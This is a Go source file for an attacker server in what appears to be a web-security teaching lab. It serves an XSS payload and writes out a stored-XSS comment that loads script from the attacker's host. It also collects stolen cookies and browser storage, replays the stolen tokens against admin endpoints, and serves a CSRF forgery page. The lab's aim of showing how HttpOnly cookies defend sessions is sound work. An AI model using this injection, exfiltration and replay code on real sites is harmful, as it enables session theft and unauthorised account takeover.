// Package attacker is the lab's attacker: a server on another site than the
// guestbook that
//
//   - serves the XSS payload (/payload.js) that the stored comment of
//     [Comment] loads into the victim's page;
//   - collects what the payload sends (/collect, the only CORS-open
//     endpoint) and lists it (/), replaying every token-like string it
//     received against the target apps from the server side and showing the
//     status codes, so the page says whether the theft still pays off;
//   - offers a cross-site request forgery page (/csrf) that aims a form POST
//     and a credentialed fetch at a target's admin action.
//
// It is part of the cloakroom lab, marked as such on every page, and must
// listen on a loopback address only. Everything it received is rendered
// with html/template, so the collector is not itself injectable.
package attacker

import (
	"context"
	"embed"
	"encoding/json"
	"errors"
	"fmt"
	"html/template"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Limits of the collector.
const (
	maxLootBytes     = 64 << 10 // one report
	maxLoot          = 200      // reports kept; the oldest are dropped
	maxCandidates    = 12       // token-like strings replayed per report
	replayedReports  = 5        // newest reports replayed on each page view
	maxShownBody     = 300      // bytes of a captured response shown inline
	defaultReplayTTL = 3 * time.Second
)

// Endpoints of the target apps that stolen credentials are tried on.
const (
	DefaultReplayPath   = "/api/admin/users"
	DefaultIdentityPath = "/api/me"
)

// ErrInvalidConfig wraps every problem [New] finds in a Config.
var ErrInvalidConfig = errors.New("attacker: invalid configuration")

// Target is an app the attacker goes after.
type Target struct {
	// Name labels the target in pages and in /csrf?target=NAME.
	Name string
	// URL is the app's origin, such as http://localhost:8080.
	URL string
	// SessionCookie is the name of the app's session cookie, for an app
	// behind cloakroom: stolen strings are also replayed as that cookie.
	// Empty for a bearer-token app.
	SessionCookie string
}

// Config configures a [Server].
type Config struct {
	// BaseURL is the attacker's own origin, such as http://127.0.0.1:9090;
	// the payload sends its report there. Required.
	BaseURL string
	// Targets are the apps to replay stolen strings against and to aim the
	// forged requests at.
	Targets []Target
	// ReplayPath is the admin endpoint replays call. Default
	// DefaultReplayPath.
	ReplayPath string
	// IdentityPath answers who the caller is, as JSON {"user": ...}.
	// Default DefaultIdentityPath.
	IdentityPath string
	// Client sends the replays. Default: a client with a 3-second timeout
	// that follows no redirects.
	Client *http.Client
	// Now is the clock. Default time.Now.
	Now func() time.Time
}

// Probe is one request the payload made from the victim's page.
type Probe struct {
	Status int    `json:"status"`
	Body   string `json:"body,omitempty"`
	Error  string `json:"error,omitempty"`
}

// Report is what the lab's payload sends: everything it could reach from
// the victim's page.
type Report struct {
	Page           string            `json:"page"`
	Cookie         string            `json:"cookie"`
	LocalStorage   map[string]string `json:"localStorage"`
	SessionStorage map[string]string `json:"sessionStorage"`
	// Me is GET /api/me from the victim's page: who the victim is.
	Me *Probe `json:"me"`
	// AuthSession is GET /auth/session, the cloakroom gateway's session
	// endpoint (404 on the jwt app).
	AuthSession *Probe `json:"authSession"`
	// AdminCall is GET /api/admin/users made from the victim's page with
	// whatever credential the page would use.
	AdminCall *Probe `json:"adminCall"`
	// UsedBearer and UsedCSRF say what the payload attached to AdminCall.
	UsedBearer bool `json:"usedBearer"`
	UsedCSRF   bool `json:"usedCSRF"`
}

// Victim returns the user name from the report's /api/me probe, or "".
func (r *Report) Victim() string {
	if r == nil || r.Me == nil || r.Me.Status != http.StatusOK {
		return ""
	}
	var me struct {
		User string `json:"user"`
	}
	_ = json.Unmarshal([]byte(r.Me.Body), &me)
	return me.User
}

// Loot is one request received on /collect.
type Loot struct {
	ID     int
	At     time.Time
	Origin string // the Origin header: the victim page's origin
	Body   []byte // as received
	// Report is Body decoded, or nil when it was not a payload report.
	Report *Report
}

// Server is the attacker's server. Create it with [New].
type Server struct {
	cfg     Config
	targets map[string]Target
	pages   *template.Template
	payload []byte

	mu     sync.Mutex
	nextID int
	loot   []Loot
}

//go:embed static
var staticFiles embed.FS

// New checks cfg and returns a Server.
func New(cfg Config) (*Server, error) {
	var problems []error
	bad := func(format string, args ...any) {
		problems = append(problems, fmt.Errorf("%w: "+format, append([]any{ErrInvalidConfig}, args...)...))
	}
	if err := checkOrigin(cfg.BaseURL); err != nil {
		bad("BaseURL: %v", err)
	}
	targets := make(map[string]Target)
	for _, t := range cfg.Targets {
		if t.Name == "" || strings.ContainsAny(t.Name, "&?#/ ") {
			bad("target name %q must be a plain word", t.Name)
		}
		if _, dup := targets[t.Name]; dup {
			bad("target %q appears twice", t.Name)
		}
		if err := checkOrigin(t.URL); err != nil {
			bad("target %q: %v", t.Name, err)
		}
		targets[t.Name] = t
	}
	if len(problems) > 0 {
		return nil, errors.Join(problems...)
	}
	if cfg.ReplayPath == "" {
		cfg.ReplayPath = DefaultReplayPath
	}
	if cfg.IdentityPath == "" {
		cfg.IdentityPath = DefaultIdentityPath
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{
			Timeout:       defaultReplayTTL,
			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		}
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	pages, err := template.New("").Funcs(template.FuncMap{
		"clock": func(t time.Time) string { return t.Format("15:04:05") },
		"short": func(s string) string {
			if len(s) <= maxShownBody {
				return s
			}
			return strings.ToValidUTF8(s[:maxShownBody], "") + "…"
		},
	}).ParseFS(staticFiles, "static/*.html")
	if err != nil {
		return nil, fmt.Errorf("attacker: parse templates: %w", err)
	}
	src, err := fs.ReadFile(staticFiles, "static/payload.js")
	if err != nil {
		return nil, fmt.Errorf("attacker: read payload: %w", err)
	}
	collector, _ := json.Marshal(strings.TrimSuffix(cfg.BaseURL, "/") + "/collect")
	payload := strings.Replace(string(src), `"COLLECTOR_URL"`, string(collector), 1)
	return &Server{cfg: cfg, targets: targets, pages: pages, payload: []byte(payload)}, nil
}

// checkOrigin accepts an http(s) origin: scheme and host, no path beyond
// "/", no userinfo, query or fragment, nothing that needs quoting.
func checkOrigin(raw string) error {
	u, err := url.Parse(raw)
	switch {
	case err != nil:
		return err
	case u.Scheme != "http" && u.Scheme != "https":
		return fmt.Errorf("%q is not an http or https URL", raw)
	case u.Host == "" || u.User != nil || (u.Path != "" && u.Path != "/") || u.RawQuery != "" || u.Fragment != "":
		return fmt.Errorf("%q is not an origin (scheme://host:port)", raw)
	case strings.ContainsAny(raw, "\"'<>\\` "):
		return fmt.Errorf("%q contains a character that needs quoting", raw)
	}
	return nil
}

// Comment returns the stored-XSS comment that loads the payload from the
// attacker at baseURL: an image that fails to load and, on error, adds a
// script tag. A real attacker would hide it better.
func Comment(baseURL string) string {
	src := strings.TrimSuffix(baseURL, "/") + "/payload.js"
	return `Lovely guestbook, thanks for having me! <img src="/x.png" alt="" ` +
		`onerror="var s=document.createElement('script');s.src='` + src + `';document.head.appendChild(s)">`
}

// Loot returns what /collect received, oldest first.
func (s *Server) Loot() []Loot {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.loot)
}

// Handler returns the attacker's HTTP handler.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", s.index)
	mux.HandleFunc("GET /status.json", s.status)
	mux.HandleFunc("GET /payload.js", s.servePayload)
	mux.HandleFunc("OPTIONS /collect", s.collectPreflight)
	mux.HandleFunc("POST /collect", s.collect)
	mux.HandleFunc("GET /csrf", s.csrf)
	assets, _ := fs.Sub(staticFiles, "static")
	files := http.FileServerFS(assets)
	for _, name := range []string{"attacker.js", "attacker.css", "csrf.js"} {
		mux.Handle("GET /"+name, files)
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("X-Content-Type-Options", "nosniff")
		h.Set("Referrer-Policy", "no-referrer")
		h.Set("Cache-Control", "no-store")
		mux.ServeHTTP(w, r)
	})
}

// pageCSP keeps the attacker's own pages from running anything in the loot
// they display, while letting the forgery page reach the targets.
func (s *Server) pageCSP() string {
	origins := make([]string, 0, len(s.cfg.Targets))
	for _, t := range s.cfg.Targets {
		origins = append(origins, strings.TrimSuffix(t.URL, "/"))
	}
	list := strings.Join(origins, " ")
	return "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; object-src 'none'; base-uri 'none'; " +
		"frame-ancestors 'none'; connect-src 'self' " + list + "; form-action " + list + "; frame-src " + list
}

func (s *Server) servePayload(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/javascript; charset=utf-8")
	w.Write(s.payload)
}

func (s *Server) collectPreflight(w http.ResponseWriter, r *http.Request) {
	h := w.Header()
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Access-Control-Allow-Methods", "POST")
	h.Set("Access-Control-Allow-Headers", "Content-Type")
	h.Set("Access-Control-Max-Age", "600")
	w.WriteHeader(http.StatusNoContent)
}

// collect keeps whatever it is sent, up to a size limit. It is open to every
// origin (without credentials): the payload posts from the victim's page.
func (s *Server) collect(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, maxLootBytes))
	if err != nil {
		var tooBig *http.MaxBytesError
		if errors.As(err, &tooBig) {
			http.Error(w, "report too large", http.StatusRequestEntityTooLarge)
			return
		}
		http.Error(w, "could not read the report", http.StatusBadRequest)
		return
	}
	l := Loot{At: s.cfg.Now(), Origin: r.Header.Get("Origin"), Body: body}
	var rep Report
	if json.Unmarshal(body, &rep) == nil && rep.Page != "" {
		l.Report = &rep
	}
	s.mu.Lock()
	s.nextID++
	l.ID = s.nextID
	s.loot = append(s.loot, l)
	if len(s.loot) > maxLoot {
		s.loot = slices.Delete(s.loot, 0, len(s.loot)-maxLoot)
	}
	s.mu.Unlock()
	w.WriteHeader(http.StatusNoContent)
}

func (s *Server) status(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	n := s.nextID
	s.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, `{"received":%d}`, n)
}

// Replay is one server-side attempt to use a stolen string.
type Replay struct {
	Target string
	Via    string // "Authorization: Bearer" or "session cookie"
	// User is who the app took the replayer for (GET IdentityPath), ""
	// when it refused.
	User string
	// IdentityStatus and Status are the answers to GET IdentityPath and
	// GET ReplayPath (the admin endpoint); 0 when the request failed.
	IdentityStatus, Status int
	Err                    string
}

// Works reports whether the app accepted the stolen string as someone's
// credential.
func (r Replay) Works() bool { return r.IdentityStatus >= 200 && r.IdentityStatus < 300 }

// Replay tries candidate against target from this server, as a plain HTTP
// client far from the victim's browser: as a bearer token, and as the
// session cookie when the target has one. For each, it asks who the app
// takes it for, then calls the admin endpoint.
func (s *Server) Replay(ctx context.Context, target Target, candidate string) []Replay {
	vias := []string{"Authorization: Bearer"}
	if target.SessionCookie != "" {
		vias = append(vias, "session cookie")
	}
	out := make([]Replay, 0, len(vias))
	for _, via := range vias {
		rep := Replay{Target: target.Name, Via: via}
		var body []byte
		var err error
		if rep.IdentityStatus, body, err = s.replayGet(ctx, target, s.cfg.IdentityPath, via, candidate); err != nil {
			rep.Err = err.Error()
		} else if rep.Works() {
			var me struct {
				User string `json:"user"`
			}
			_ = json.Unmarshal(body, &me)
			rep.User = me.User
		}
		if rep.Err == "" {
			if rep.Status, _, err = s.replayGet(ctx, target, s.cfg.ReplayPath, via, candidate); err != nil {
				rep.Err = err.Error()
			}
		}
		out = append(out, rep)
	}
	return out
}

func (s *Server) replayGet(ctx context.Context, target Target, path, via, candidate string) (int, []byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, strings.TrimSuffix(target.URL, "/")+path, nil)
	if err != nil {
		return 0, nil, err
	}
	req.Header.Set("Accept", "application/json")
	if via == "session cookie" {
		// Set the header directly: net/http would drop cookie values with
		// characters a real token cannot hold anyway.
		req.Header.Set("Cookie", target.SessionCookie+"="+candidate)
	} else {
		req.Header.Set("Authorization", "Bearer "+candidate)
	}
	res, err := s.cfg.Client.Do(req)
	if err != nil {
		return 0, nil, err
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(res.Body, 64<<10))
	return res.StatusCode, body, nil
}

// targetFor picks the target whose origin sent the loot.
func (s *Server) targetFor(l Loot) (Target, bool) {
	origin := l.Origin
	if l.Report != nil {
		if u, err := url.Parse(l.Report.Page); err == nil && u.Host != "" {
			origin = u.Scheme + "://" + u.Host
		}
	}
	for _, t := range s.cfg.Targets {
		if strings.TrimSuffix(t.URL, "/") == origin {
			return t, true
		}
	}
	return Target{}, false
}

// lootView is one report as the collector page shows it.
type lootView struct {
	Loot
	Victim      string
	Target      string
	Storage     []keyValue
	Candidates  []candidateView
	Replayed    bool
	AnyWorks    bool
	ActsAs      string // the user a working stolen string impersonates
	AdminStatus int
	Summary     string
	Verdict     string // "bad" (the theft pays off) or "good"
}

type keyValue struct{ Key, Value string }

type candidateView struct {
	Value   string
	Replays []Replay
}

// index lists the reports, newest first; /?target=NAME shows only those
// from that target's pages.
func (s *Server) index(w http.ResponseWriter, r *http.Request) {
	only := r.URL.Query().Get("target")
	if _, ok := s.targets[only]; only != "" && !ok {
		http.Error(w, "unknown target", http.StatusBadRequest)
		return
	}
	loot := s.Loot()
	slices.Reverse(loot)
	views := make([]lootView, 0, len(loot))
	for _, l := range loot {
		if v := s.describe(l); only == "" || v.Target == only {
			views = append(views, v)
		}
	}
	var wg sync.WaitGroup
	for i := range views {
		if i < replayedReports {
			wg.Go(func() { s.replayAll(r.Context(), &views[i]) })
		}
	}
	wg.Wait()
	data := struct {
		BaseURL string
		Comment string
		Targets []Target
		Only    string
		Loot    []lootView
	}{s.cfg.BaseURL, Comment(s.cfg.BaseURL), s.cfg.Targets, only, views}
	s.render(w, "index.html", data)
}

func (s *Server) describe(l Loot) lootView {
	v := lootView{Loot: l}
	if t, ok := s.targetFor(l); ok {
		v.Target = t.Name
	}
	if rep := l.Report; rep != nil {
		v.Victim = rep.Victim()
		for _, m := range []struct {
			prefix string
			kv     map[string]string
		}{{"localStorage", rep.LocalStorage}, {"sessionStorage", rep.SessionStorage}} {
			for k, val := range m.kv {
				v.Storage = append(v.Storage, keyValue{m.prefix + "[" + strconv.Quote(k) + "]", val})
			}
		}
		slices.SortFunc(v.Storage, func(a, b keyValue) int { return strings.Compare(a.Key, b.Key) })
		if rep.AdminCall != nil {
			v.AdminStatus = rep.AdminCall.Status
		}
	}
	for _, c := range Candidates(l.Body) {
		v.Candidates = append(v.Candidates, candidateView{Value: c})
	}
	return v
}

func (s *Server) replayAll(ctx context.Context, v *lootView) {
	targets := s.cfg.Targets
	if t, ok := s.targets[v.Target]; ok {
		targets = []Target{t}
	}
	ctx, cancel := context.WithTimeout(ctx, 2*defaultReplayTTL)
	defer cancel()
	for i := range v.Candidates {
		for _, t := range targets {
			v.Candidates[i].Replays = append(v.Candidates[i].Replays, s.Replay(ctx, t, v.Candidates[i].Value)...)
		}
		for _, rep := range v.Candidates[i].Replays {
			if rep.Works() {
				v.AnyWorks = true
				if v.ActsAs == "" || rep.Status == http.StatusOK {
					v.ActsAs = rep.User
				}
			}
		}
	}
	v.Replayed = true
	who := v.Victim
	if who == "" {
		who = "the victim"
	}
	switch {
	case v.AnyWorks:
		v.Verdict = "bad"
		if v.ActsAs != "" {
			who = v.ActsAs
		}
		v.Summary = "STOLEN CREDENTIAL STILL WORKS: replayed from this server just now, the app took it for " + who +
			". The attacker acts as " + who + " from anywhere, whether or not " + who + " has signed out, until the token expires."
	case len(v.Candidates) == 0:
		v.Verdict = "good"
		v.Summary = "Nothing token-like was stolen: web storage and document.cookie held no session secret."
	default:
		v.Verdict = "good"
		v.Summary = "Nothing stolen works from here: every string the payload sent was refused when replayed just now. " +
			"The session lives in an HttpOnly cookie the script could not read."
	}
}

// csrf serves the forgery page for /csrf?target=NAME&comment=ID.
func (s *Server) csrf(w http.ResponseWriter, r *http.Request) {
	t, ok := s.targets[r.URL.Query().Get("target")]
	if !ok {
		http.Error(w, "unknown target: use /csrf?target=NAME with a configured target", http.StatusBadRequest)
		return
	}
	id := r.URL.Query().Get("comment")
	if id == "" {
		id = "1"
	}
	if n, err := strconv.ParseUint(id, 10, 63); err != nil || n == 0 {
		http.Error(w, "comment must be a positive integer", http.StatusBadRequest)
		return
	}
	s.render(w, "csrf.html", struct {
		Target Target
		Action string
		ID     string
	}{t, strings.TrimSuffix(t.URL, "/") + "/api/comments/" + id + "/delete", id})
}

func (s *Server) render(w http.ResponseWriter, name string, data any) {
	h := w.Header()
	h.Set("Content-Type", "text/html; charset=utf-8")
	h.Set("Content-Security-Policy", s.pageCSP())
	if err := s.pages.ExecuteTemplate(w, name, data); err != nil {
		// Headers are sent; all that is left is to stop.
		return
	}
}
